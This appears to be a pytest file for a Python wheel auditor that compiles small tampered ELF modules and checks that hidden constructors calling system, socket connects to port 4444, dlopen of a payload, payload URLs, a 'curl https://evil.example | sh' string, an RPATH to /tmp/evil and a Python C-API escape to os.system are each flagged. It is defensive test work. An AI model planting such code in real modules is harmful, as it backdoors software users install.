"""A compiled module's interface (judge/interface.py) on small ELF modules this test compiles with the host's
gcc: the same source built with other flags matches under the named rules; a hidden constructor, an added
system/socket/dlopen call, an executable stack, an RPATH out of the wheel and a URL string are each named."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from auditor.judge.interface import compare, read_interface

BASE = r"""
#include <string.h>
#include <stdio.h>
static int count(const char *s) { return (int)strlen(s); }
void *PyInit_mod(void) { static char buf[64]; snprintf(buf, sizeof buf, "%d", count("module")); return buf; }
"""

ADDED = {
    "constructor": r"""#include <stdlib.h>
__attribute__((constructor)) static void hidden(void) { if (getenv("AUDITOR_NEVER")) system("id"); }""",
    "socket": r"""#include <sys/socket.h>
#include <netinet/in.h>
int phone_home(void) { struct sockaddr_in a = {0}; int s = socket(AF_INET, SOCK_STREAM, 0);
  a.sin_family = AF_INET; a.sin_port = htons(4444); return connect(s, (struct sockaddr *)&a, sizeof a); }""",
    "dlopen": r"""#include <dlfcn.h>
void *load_more(void) { return dlopen("libpayload.so", RTLD_NOW); }""",
    "url": r"""const char *volatile auditor_where = "https://updates.example-cdn.xyz/payload.bin";
const char *where(void) { return auditor_where; }""",
}

needs_gcc = pytest.mark.skipif(shutil.which("gcc") is None, reason="no C compiler on this machine")


def build(tmp_path: Path, name: str, source: str, *flags: str) -> bytes:
    c = tmp_path / f"{name}.c"
    c.write_text(source)
    out = tmp_path / f"{name}.so"
    subprocess.run(["gcc", "-shared", "-fPIC", str(c), "-o", str(out), *flags], check=True, capture_output=True)
    return out.read_bytes()


@needs_gcc
def test_the_same_source_with_other_flags_matches_under_named_rules(tmp_path):
    a = read_interface(build(tmp_path, "a", BASE, "-O2", "-D_FORTIFY_SOURCE=2", "-fstack-protector-strong"))
    b = read_interface(build(tmp_path, "b", BASE, "-O0", "-fno-stack-protector"))
    assert a is not None and b is not None and "PyInit_mod" in a.exports
    check = compare(a, b)
    assert check.adds == [], check.adds
    assert check.rules <= {"fortify-source", "compiler-runtime", "compiler-builtins", "glibc-symbol-versions"}


@needs_gcc
@pytest.mark.parametrize("what, words", [
    ("constructor", ["adds 1 constructor(s)", "imports system"]),
    ("socket", ["imports socket", "imports connect"]),
    ("dlopen", ["imports dlopen"]),
    ("url", ["adds the string 'https://updates.example-cdn.xyz/payload.bin'"]),
])
def test_what_a_tampered_module_adds_is_named(tmp_path, what, words):
    honest = read_interface(build(tmp_path, "honest", BASE, "-O2"))
    tampered = read_interface(build(tmp_path, "tampered", BASE + ADDED[what], "-O2"))
    adds = compare(tampered, honest).adds
    for w in words:
        assert any(a.startswith(w) for a in adds), (w, adds)
    assert compare(honest, honest).adds == []


@needs_gcc
def test_an_executable_stack_and_an_rpath_out_of_the_wheel_are_named(tmp_path):
    honest = read_interface(build(tmp_path, "honest", BASE))
    odd = read_interface(build(tmp_path, "odd", BASE, "-z", "execstack", "-Wl,-rpath,/tmp/evil",
                               "-Wl,--disable-new-dtags"))
    adds = compare(odd, honest).adds
    assert "asks for an executable stack (PT_GNU_STACK)" in adds, adds
    assert any("searches libraries in /tmp/evil" in a for a in adds), adds
    # auditwheel's RPATH below $ORIGIN is its named step
    origin = read_interface(build(tmp_path, "origin", BASE, "-Wl,-rpath,$ORIGIN/../pkg.libs"))
    check = compare(origin, honest)
    assert check.adds == [] and "auditwheel-rpath" in check.rules


def test_what_is_no_elf_file_is_not_read():
    assert read_interface(b"MZ\x90\x00 a PE file") is None
    assert read_interface(b"\x7fELF\x02\x01" + b"\0" * 40) is None  # truncated: unreadable, never a crash


LIB = "int foo_open(void) { return 1; }\nint foo_read(int x) { return x + 1; }\n"
USES_LIB = BASE + "int foo_open(void); int foo_read(int);\nint use(void) { return foo_read(foo_open()); }\n"


@needs_gcc
@pytest.mark.parametrize("rule", ["glibc-merged-libraries", "system-libraries", "python-c-api", "cxx-runtime",
                                  "compiler-runtime", "compiler-builtins", "static-library", "grafted-library-needed"])
def test_each_interface_rule_sets_aside_only_its_own_variation(tmp_path, rule):
    """Each named rule on a pair of modules that differ in that way only (and nothing is added)."""
    honest = BASE
    members: set[str] = set()
    if rule == "glibc-merged-libraries":
        pthread = next(Path(d) / "libpthread.so.0" for d in ("/lib/x86_64-linux-gnu", "/usr/lib/x86_64-linux-gnu", "/lib64")
                       if (Path(d) / "libpthread.so.0").exists())  # glibc >= 2.34 keeps it as a stub
        pub = build(tmp_path, "pub", BASE, "-Wl,--no-as-needed", str(pthread))
    elif rule == "system-libraries":
        pub = build(tmp_path, "pub", BASE, "-Wl,--no-as-needed", "-lm")
    elif rule == "python-c-api":
        pub = build(tmp_path, "pub", BASE + "int PyCallable_Check(void *); int f(void *o) { return PyCallable_Check(o); }\n")
    elif rule == "cxx-runtime":
        pub = build(tmp_path, "pub", BASE + "void _ZSt9terminatev(void); void g(void) { _ZSt9terminatev(); }\n")
    elif rule == "compiler-runtime":
        pub = build(tmp_path, "pub", BASE + "#include <assert.h>\nint h(int x) { assert(x > 0); return x; }\n")
        honest = BASE + "#define NDEBUG\n#include <assert.h>\nint h(int x) { assert(x > 0); return x; }\n"
    elif rule == "compiler-builtins":
        pub = build(tmp_path, "pub", BASE + "#include <stdlib.h>\nvoid *k(int n) { return malloc(n); }\n")
        honest = BASE + "void *k(int n) { static char b[8]; (void)n; return b; }\n"
    elif rule in ("static-library", "grafted-library-needed"):
        soname = "libfoo.so.1" if rule == "static-library" else "libfoo-1a2b3c4d.so.1"
        (tmp_path / "lib.c").write_text(LIB)
        subprocess.run(["gcc", "-shared", "-fPIC", f"-Wl,-soname,{soname}", str(tmp_path / "lib.c"), "-o",
                        str(tmp_path / "libfoo.so")], check=True)
        if rule == "static-library":  # the publisher compiled the library in; the rebuild links it
            pub = build(tmp_path, "pub", USES_LIB + LIB)
            reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path}", "-lfoo"))
        else:  # the publisher links the copy auditwheel grafted into the wheel; the rebuild, the system's
            pub = build(tmp_path, "pub", USES_LIB, f"-L{tmp_path}", "-lfoo")
            subprocess.run(["gcc", "-shared", "-fPIC", "-Wl,-soname,libfoo.so.1", str(tmp_path / "lib.c"), "-o",
                            str(tmp_path / "sys" / "libfoo.so")] if (tmp_path / "sys").mkdir() is None else [], check=True)
            reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path / 'sys'}", "-lfoo"))
            members = {"pkg/mod.so", "pkg.libs/libfoo-1a2b3c4d.so.1"}
    if rule not in ("static-library", "grafted-library-needed"):
        reb = read_interface(build(tmp_path, "reb", honest))
    check = compare(read_interface(pub), reb, members)
    assert check.adds == [] and rule in check.rules, (check.adds, check.rules)
    if rule == "static-library":
        assert check.unverified and "links libfoo.so.1 statically" in check.notes[0]
    if rule == "grafted-library-needed":  # the same library not in the wheel: a needed library it adds
        assert compare(read_interface(pub), reb, set()).adds == ["needs libfoo-1a2b3c4d.so.1"]


@needs_gcc
def test_an_old_glibcs_stat_wrappers_and_getrandom_fallback_are_named(tmp_path):
    """pynacl 1.6.2's manylinux2014 module (glibc 2.17) imports __fxstat and calls syscall(SYS_getrandom) where
    a rebuild on a newer glibc imports fstat and getrandom; syscall with no getrandom in the rebuild stays added."""
    old = BASE + ("int __fxstat(int, int, void *); long syscall(long, ...);\n"
                  "int f(int fd, void *b) { return __fxstat(1, fd, b) + (int)syscall(318, b, 8, 0); }\n")
    new = BASE + ("#include <sys/stat.h>\n#include <sys/random.h>\n"
                  "int f(int fd, void *b) { struct stat s; return fstat(fd, &s) + (int)getrandom(b, 8, 0); }\n")
    check = compare(read_interface(build(tmp_path, "old", old)), read_interface(build(tmp_path, "new", new)))
    assert check.adds == [] and {"glibc-legacy-aliases", "getrandom-fallback"} <= check.rules, (check.adds, check.rules)
    plain = compare(read_interface(build(tmp_path, "old2", old)), read_interface(build(tmp_path, "base", BASE)))
    assert any(a.startswith("imports syscall") for a in plain.adds), plain.adds


@needs_gcc
def test_a_statically_linked_library_is_held_to_what_the_library_itself_imports(tmp_path):
    """pyyaml's published module links libyaml in; the rebuild links libyaml-0.so.2. With the library read from
    the build's image, the published module's extra imports must be the library's own: accepted then; an
    import the library does not make (system) is named; without the library the member is only partly checked."""
    lib_src = LIB + "#include <stdlib.h>\nconst char *foo_env(void) { return getenv(\"FOO_HOME\"); }\n"
    uses = USES_LIB + "const char *foo_env(void);\nconst char *home(void) { return foo_env(); }\n"
    (tmp_path / "lib.c").write_text(lib_src)
    subprocess.run(["gcc", "-shared", "-fPIC", "-Wl,-soname,libfoo.so.1", str(tmp_path / "lib.c"), "-o",
                    str(tmp_path / "libfoo.so")], check=True)
    library = read_interface((tmp_path / "libfoo.so").read_bytes())
    reb = read_interface(build(tmp_path, "reb", uses, f"-L{tmp_path}", "-lfoo"))
    honest = read_interface(build(tmp_path, "pub", uses + lib_src))
    check = compare(honest, reb, set(), {"libfoo.so.1": library})
    assert check.adds == [] and not check.unverified and "static-library" in check.rules, check
    assert compare(honest, reb).unverified  # the library not at hand: partly checked
    evil = read_interface(build(tmp_path, "evil", uses + lib_src + "int pwn(void) { return system(\"id\"); }\n"))
    adds = compare(evil, reb, set(), {"libfoo.so.1": library}).adds
    assert adds == ["imports system, which neither the rebuild nor libfoo.so.1 imports"], adds


@needs_gcc
def test_a_grafted_library_no_module_needs_is_a_difference(tmp_path):
    """auditwheel grafts a library into NAME.libs/ only because a module links it: one that no module or library
    of the wheel names in DT_NEEDED is a difference; the one the module needs is listed, not verified."""
    from auditor.judge.members import compare_wheels
    from tests.test_compare import BASE, wheel

    (tmp_path / "lib.c").write_text(LIB)
    subprocess.run(["gcc", "-shared", "-fPIC", "-Wl,-soname,libfoo-1a2b3c4d.so.1", str(tmp_path / "lib.c"), "-o",
                    str(tmp_path / "libfoo.so")], check=True)
    lib = (tmp_path / "libfoo.so").read_bytes()
    module = build(tmp_path, "mod", USES_LIB, f"-L{tmp_path}", "-lfoo")
    so = "pkg/mod.cpython-311-x86_64-linux-gnu.so"
    reb = wheel(tmp_path / "r.whl", members=BASE[:-1] + [(so, module, 0o755), BASE[-1]])
    honest = BASE[:-1] + [(so, module, 0o755), ("pkg.libs/libfoo-1a2b3c4d.so.1", lib, 0o755), BASE[-1]]
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=honest), reb, binary=True)
    assert not cmp.differences and any(d.path.startswith("pkg.libs/") for d in cmp.compiled_differences)
    extra = honest[:-1] + [("pkg.libs/libevil-0badc0de.so.1", lib, 0o755), honest[-1]]
    cmp = compare_wheels(wheel(tmp_path / "e.whl", members=extra), reb, binary=True)
    assert [d.path for d in cmp.differences if d.path.startswith("pkg.libs/")] == ["pkg.libs/libevil-0badc0de.so.1"]


def shared_lib(tmp_path: Path, soname: str, source: str, *flags: str) -> Path:
    c = tmp_path / f"{soname}.c"
    c.write_text(source)
    out = tmp_path / soname
    subprocess.run(["gcc", "-shared", "-fPIC", f"-Wl,-soname,{soname}", str(c), "-o", str(out), *flags], check=True)
    return out


@needs_gcc
def test_imports_a_grafted_library_exports_are_named_by_whether_the_rebuild_links_it(tmp_path):
    """shapely 2.1.2: built against a newer GEOS (grafted) than the image's, it calls functions Debian's lacks:
    each exported by the wheel's copy, accepted. pillow 12.1.0: built with libtiff, which the image lacks: its
    imports are the grafted copy's, its other added imports (lseek64) come from the code libtiff switches on:
    partly checked; a capability (system) is still a difference."""
    (tmp_path / "old").mkdir(), (tmp_path / "new").mkdir()
    shared_lib(tmp_path / "old", "libfoo.so.1", LIB)
    new = shared_lib(tmp_path / "new", "libfoo-1a2b3c4d.so.1", LIB + "int foo_more(void) { return 3; }\n")
    (tmp_path / "new" / "libfoo.so").symlink_to(new)
    (tmp_path / "old" / "libfoo.so").symlink_to(tmp_path / "old" / "libfoo.so.1")
    more = USES_LIB + "int foo_more(void);\nint more(void) { return foo_more(); }\n"
    reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path / 'old'}", "-lfoo"))
    pub = read_interface(build(tmp_path, "pub", more, f"-L{tmp_path / 'new'}", "-lfoo"))
    grafted = {"libfoo-1a2b3c4d.so.1": read_interface(new.read_bytes())}
    check = compare(pub, reb, {"pkg.libs/libfoo-1a2b3c4d.so.1"}, None, grafted)
    assert check.adds == [] and "grafted-library-version" in check.rules and not check.unverified, check
    assert compare(pub, reb, {"pkg.libs/libfoo-1a2b3c4d.so.1"}).adds == ["imports foo_more"]  # no copy at hand

    tiff = shared_lib(tmp_path, "libtiff-0badc0de.so.6", "int TIFFOpen(void) { return 1; }\n")
    (tmp_path / "libtiff.so").symlink_to(tiff)
    feature = BASE + "#include <unistd.h>\nint TIFFOpen(void);\nlong tiff(int fd) { return TIFFOpen() + lseek(fd, 0, 0); }\n"
    base = read_interface(build(tmp_path, "base", BASE))
    with_tiff = read_interface(build(tmp_path, "tiff", feature, f"-L{tmp_path}", "-ltiff"))
    libs = {"libtiff-0badc0de.so.6": read_interface(tiff.read_bytes())}
    check = compare(with_tiff, base, {"PIL.libs/libtiff-0badc0de.so.6"}, None, libs)
    assert check.adds == [] and "optional-library" in check.rules and check.unverified, check
    assert any("lseek" in n for n in check.notes), check.notes
    evil = read_interface(build(tmp_path, "evil", feature + "#include <stdlib.h>\nint pwn(void) { return system(\"id\"); }\n",
                                f"-L{tmp_path}", "-ltiff"))
    assert compare(evil, base, {"PIL.libs/libtiff-0badc0de.so.6"}, None, libs).adds == ["imports system@GLIBC_2.2.5"]


@needs_gcc
def test_a_static_build_is_held_to_the_whole_chain_of_libraries(tmp_path):
    """xmlsec 1.3.14 links libxmlsec1, libxml2, libxslt and OpenSSL's libcrypto in; the rebuild links
    libxmlsec1-openssl.so.1, which links libcrypto.so.3: what libcrypto imports (mprotect) is explained by
    it, read from the image; without it, that capability is a difference."""
    crypto_src = "#include <sys/mman.h>\nint bar_lock(void *p) { return mprotect(p, 4096, PROT_READ); }\n"
    crypto = shared_lib(tmp_path, "libbar.so.3", crypto_src)
    (tmp_path / "libbar.so").symlink_to(crypto)
    lib_src = LIB + "int bar_lock(void *);\nint foo_lock(void *p) { return bar_lock(p); }\n"
    foo = shared_lib(tmp_path, "libfoo.so.1", lib_src, f"-L{tmp_path}", "-lbar")
    (tmp_path / "libfoo.so").symlink_to(foo)
    reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path}", "-lfoo"))
    pub = read_interface(build(tmp_path, "pub", USES_LIB + lib_src + crypto_src))
    libraries = {"libfoo.so.1": read_interface(foo.read_bytes()), "libbar.so.3": read_interface(crypto.read_bytes())}
    check = compare(pub, reb, set(), libraries)
    assert check.adds == [] and "static-library" in check.rules, check
    only_first = compare(pub, reb, set(), {"libfoo.so.1": libraries["libfoo.so.1"]})
    assert only_first.adds == ["imports mprotect, which neither the rebuild nor libfoo.so.1 imports"], only_first.adds


def test_a_string_joined_by_a_neighbouring_printable_byte_is_the_same_string():
    from auditor.judge.interface import _joined
    known = frozenset({b"{http://exslt.org/dates-and-times}date: invalid date or format %s"})
    assert _joined(b"@{http://exslt.org/dates-and-times}date: invalid date or format %s", known)
    assert _joined(b"{http://exslt.org/dates-and-times}date: invalid date or format %sAB", known)
    assert not _joined(b"{http://evil.example/x}date: invalid date or format %s", known)
    assert not _joined(b"curl https://evil.example | sh; {http://exslt.org/dates-and-times}date", known)


@needs_gcc
def test_a_static_librarys_other_version_may_name_more_urls_on_its_own_hosts(tmp_path):
    """xmlsec 1.3.14 bundles libxmlsec1 1.3, which names more W3C namespace URIs than the image's 1.2: URL
    strings on hosts the image's library already names are accepted; a host anyone can publish on (github.com)
    or any other host is still a difference, even when the library names it too."""
    def strings(*urls: str) -> str:
        return "".join(f'const char *volatile u{i} = "{u}";\n' for i, u in enumerate(urls))
    lib_src = LIB + strings("http://www.w3.org/2000/09/xmldsig#sha1", "see https://github.com/lib/lib/issues")
    lib = shared_lib(tmp_path, "libfoo.so.1", lib_src)
    (tmp_path / "libfoo.so").symlink_to(lib)
    reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path}", "-lfoo"))
    libraries = {"libfoo.so.1": read_interface(lib.read_bytes())}
    newer = LIB + strings("http://www.w3.org/2000/09/xmldsig#sha1", "http://www.w3.org/2001/04/xmlenc#DHKeyValue")
    check = compare(read_interface(build(tmp_path, "pub", USES_LIB + newer)), reb, set(), libraries)
    assert check.adds == [] and "library-url-hosts" in check.rules, check
    for evil in ("https://github.com/evil/payload.sh", "http://evil.example/x"):
        pub = read_interface(build(tmp_path, "evil", USES_LIB + newer + strings(evil).replace("u0", "e0")))
        adds = compare(pub, reb, set(), libraries).adds
        assert adds == [f"adds the string {evil!r} (a URL, host or command)"], adds


def _iface(imports=(), needed=("libc.so.6",), runpath=(), strings=()):
    from auditor.judge.elf import Interface
    return Interface(frozenset(imports), frozenset({"PyInit_mod"}), tuple(needed), tuple(runpath), 1, 1, False,
                     frozenset(strings))


def test_what_other_toolchains_link_in_is_named_and_nothing_more():
    """numpy 1.26.4's _multiarray_tests imports acos, atanh... from libm where the rebuild uses npymath's
    (math-library); snowflake-connector-python 4.2.0's C++ module carries gcc-toolset's static part of
    libstdc++: GCC's transactional-memory hooks (_ITM_*), gettext, and its bug-report URL (compiler-runtime,
    cxx-runtime, compiler-identification); numpy's $ORIGIN/../../numpy.libs stays inside the wheel
    (auditwheel-rpath). The same shapes with a capability, a host of its own or a path out stay differences."""
    reb = _iface(imports={("PyLong_FromLong", "")}, needed=("libm.so.6", "libc.so.6"))
    pub = _iface(imports={("PyLong_FromLong", ""), ("acos", "GLIBC_2.2.5"), ("atanhl", "GLIBC_2.2.5")},
                 needed=("libm.so.6", "libc.so.6"))
    check = compare(pub, reb)
    assert check.adds == [] and "math-library" in check.rules, check
    assert compare(_iface(imports={("acos", "GLIBC_2.2.5")}), reb).adds  # not from libm: said
    cxx = {("_ZNSt6chrono3_V212system_clock3nowEv", "GLIBCXX_3.4.19")}
    reb = _iface(imports=cxx, needed=("libstdc++.so.6", "libc.so.6"))
    pub = _iface(imports=cxx | {("_ITM_RU1", ""), ("_ITM_memcpyRnWt", ""), ("gettext", "GLIBC_2.2.5")},
                 needed=("libstdc++.so.6", "libc.so.6"),
                 strings={b"not enough space for format expansion (Please submit full bug report at https://gcc.gnu.org/bugs"})
    check = compare(pub, reb)
    assert check.adds == [] and {"compiler-runtime", "cxx-runtime", "compiler-identification"} <= check.rules, check
    evil = _iface(imports=cxx | {("system", "GLIBC_2.2.5")}, needed=("libstdc++.so.6", "libc.so.6"),
                  strings={b"see https://gcc.gnu.example/payload"})
    assert compare(evil, reb).adds == ["imports system@GLIBC_2.2.5",
                                       "adds the string 'see https://gcc.gnu.example/payload' (a URL, host or command)"]
    members = {"numpy/core/x.so", "numpy.libs/libopenblas-1a2b3c4d.so"}
    inside = compare(_iface(runpath=("$ORIGIN/../../numpy.libs",)), _iface(), members, module="numpy/core/x.so")
    assert inside.adds == [] and "auditwheel-rpath" in inside.rules
    out = compare(_iface(runpath=("$ORIGIN/../../../usr/lib",)), _iface(), members, module="numpy/core/x.so")
    assert out.adds == ["searches libraries in $ORIGIN/../../../usr/lib (RPATH/RUNPATH)"]


@pytest.mark.twin("glibc-symbol-aliases")
@needs_gcc
def test_one_glibc_object_under_another_of_its_names_is_the_same_import(tmp_path):
    """uvloop 0.21.0's manylinux2014 module imports _environ where a rebuild here imports environ: one object of
    glibc under two names. The tampered twin imports another object (stdin's FILE) and stays added."""
    old = BASE + "extern char **_environ;\nchar *f(void) { return _environ[0]; }\n"
    new = BASE + "extern char **environ;\nchar *f(void) { return environ[0]; }\n"
    check = compare(read_interface(build(tmp_path, "old", old)), read_interface(build(tmp_path, "new", new)))
    assert check.adds == [] and "glibc-symbol-aliases" in check.rules, (check.adds, check.rules)
    evil = BASE + "#include <stdio.h>\nextern char **_environ;\nchar *f(void) { fputs(_environ[0], stderr); return 0; }\n"
    check = compare(read_interface(build(tmp_path, "evil", evil)), read_interface(build(tmp_path, "new2", new)))
    assert any("stderr" in a or "fputs" in a for a in check.adds), check.adds


@pytest.mark.twin("dotted-number-string")
@needs_gcc
def test_a_dotted_number_is_a_host_only_in_a_host_or_url_context(tmp_path):
    """pillow 12.3.0's grafted library holds the string 3.1.4.1 (a version): not a host on its own. The
    tampered twins, the same numbers with a port or in a URL, stay added."""
    honest = read_interface(build(tmp_path, "honest", BASE))
    version = read_interface(build(tmp_path, "version", BASE + 'const char *v = "3.1.4.1";\n'))
    check = compare(version, honest)
    assert check.adds == [] and "dotted-number-string" in check.rules, check.adds
    for i, evil in enumerate(('"3.1.4.1:4444"', '"http://3.1.4.1/x"')):
        check = compare(read_interface(build(tmp_path, f"evil{i}", BASE + f"const char *v = {evil};\n")), honest)
        assert any(a.startswith("adds the string") for a in check.adds), (evil, check.adds)


@pytest.mark.twin("glibc-symbol-aliases", "glibc-legacy-aliases")
def test_a_glibc_alias_is_set_aside_only_when_the_rebuild_imports_the_object_it_names():
    """Twins of glibc-symbol-aliases and glibc-legacy-aliases (issue 45, case 8): an alias (_environ, __environ,
    __xstat, __fxstat64) is the rebuild's import under another name only when the rebuild imports that object or
    function; where the rebuild does not, the published import is added. Widening either rule fails here."""
    reb = _iface(imports={("environ", "GLIBC_2.2.5"), ("stat", "GLIBC_2.33")})
    for name, rule in (("_environ", "glibc-symbol-aliases"), ("__environ", "glibc-symbol-aliases"),
                       ("__xstat", "glibc-legacy-aliases"), ("__xstat64", "glibc-legacy-aliases")):
        honest = compare(_iface(imports={(name, "GLIBC_2.2.5")}), reb)
        assert honest.adds == [] and rule in honest.rules, (name, honest.adds, honest.rules)
        lacking = _iface(imports={("PyLong_FromLong", "")})
        evil = compare(_iface(imports={(name, "GLIBC_2.2.5"), ("PyLong_FromLong", "")}), lacking)
        assert f"imports {name}@GLIBC_2.2.5" in evil.adds and rule not in evil.rules, (name, evil.adds, evil.rules)


@pytest.mark.twin("dotted-number-string")
def test_a_dotted_number_in_a_module_that_connects_is_an_address():
    """Twin of dotted-number-string (issue 45, case 8): a hard-coded address changed from 1.2.3.4 to 6.6.6.6 in a
    module that imports connect was set aside as a version; it is a difference. The same string in a module that
    opens no connection stays the rule's."""
    net = {("socket", "GLIBC_2.2.5"), ("connect", "GLIBC_2.2.5")}
    reb = _iface(imports=net, strings={b"1.2.3.4"})
    evil = compare(_iface(imports=net, strings={b"6.6.6.6"}), reb)
    assert any("6.6.6.6" in a for a in evil.adds) and "dotted-number-string" not in evil.rules, evil.adds
    honest = compare(_iface(strings={b"3.1.4.1"}), _iface())
    assert honest.adds == [] and "dotted-number-string" in honest.rules


# issue 45, case 2: a module init that runs a shell command through the Python C API alone: object.__subclasses__()
# to os._wrap_close, its __init__.__globals__["system"], called; no libc capability imported
C_API_SYSTEM = r"""
typedef struct _object PyObject;
extern PyObject PyBaseObject_Type;
PyObject *PyObject_CallMethod(PyObject *, const char *, const char *, ...);
PyObject *PyObject_GetAttrString(PyObject *, const char *);
PyObject *PyDict_GetItemString(PyObject *, const char *);
PyObject *PyObject_CallFunction(PyObject *, const char *, ...);
PyObject *PySequence_GetItem(PyObject *, long);
long PySequence_Size(PyObject *);
int hidden(void) {
  PyObject *subs = PyObject_CallMethod(&PyBaseObject_Type, "__subclasses__", 0);
  for (long i = 0; i < PySequence_Size(subs); i++) {
    PyObject *init = PyObject_GetAttrString(PySequence_GetItem(subs, i), "__init__");
    PyObject *g = init ? PyObject_GetAttrString(init, "__globals__") : 0;
    PyObject *sys = g ? PyDict_GetItemString(g, "system") : 0;
    if (sys) { PyObject_CallFunction(sys, "s", "id"); return 1; } }
  return 0; }
"""


@pytest.mark.twin("python-c-api")
@needs_gcc
def test_the_python_c_api_that_reaches_arbitrary_python_is_a_capability(tmp_path):
    """Twin of python-c-api: the calls that reach any Python object (call, get an attribute, look a name up in a
    dict) added to a module are each a difference; an API function that reaches nothing (PyCallable_Check, a
    sequence's size) stays the rule's."""
    reb = read_interface(build(tmp_path, "reb", BASE))
    check = compare(read_interface(build(tmp_path, "pub", BASE + C_API_SYSTEM)), reb)
    for name in ("PyObject_CallMethod", "PyObject_GetAttrString", "PyObject_CallFunction"):
        assert f"imports {name}" in check.adds, check.adds
    assert "imports PySequence_Size" not in check.adds and "python-c-api" in check.rules
    # pillow 12.1.0's optional code adds a dict lookup, which runs nothing: set aside
    lookup = BASE + "void *PyDict_GetItemWithError(void *, void *); void *g(void *d, void *k) { return PyDict_GetItemWithError(d, k); }\n"
    honest = compare(read_interface(build(tmp_path, "lookup", lookup)), reb)
    assert honest.adds == [] and "python-c-api" in honest.rules, honest.adds


@needs_gcc
def test_a_published_module_that_does_not_read_where_the_rebuilds_does_is_a_difference(tmp_path):
    """Issue 45, case 1: a published module the reader cannot parse was "compiled member not reproduced" (the
    wheel partial, no difference) while its rebuild's read fine. Its program headers broken here (e_phoff past the
    end): a difference of class code naming the member; the honest module beside it stays not reproduced."""
    from auditor.judge.members import compare_wheels
    from auditor.judge.verdicts import verdict_of
    from auditor.records import Verdict
    from tests.test_compare import BASE as WHEEL, wheel

    so = "pkg/mod.cpython-311-x86_64-linux-gnu.so"
    module = build(tmp_path, "reb", BASE)
    forged = bytearray(build(tmp_path, "pub", BASE + ADDED["constructor"]))
    forged[0x20:0x28] = (len(forged) + 4096).to_bytes(8, "little")  # e_phoff
    assert read_interface(bytes(forged)) is None and read_interface(module) is not None

    def members(data):
        return WHEEL[:-1] + [(so, data, 0o755), WHEEL[-1]]

    reb = wheel(tmp_path / "r.whl", members=members(module))
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=members(bytes(forged))), reb, binary=True)
    assert verdict_of(cmp)[0] is Verdict.DIFFERS and (so, "code") in [(d.path, d.cls) for d in cmp.differences]
    assert "unreadable compiled member" in next(d.detail for d in cmp.differences if d.path == so)
    honest = compare_wheels(wheel(tmp_path / "h.whl", members=members(build(tmp_path, "other", BASE, "-O0"))), reb,
                            binary=True)
    assert verdict_of(honest)[0] is Verdict.PARTIAL and not honest.differences
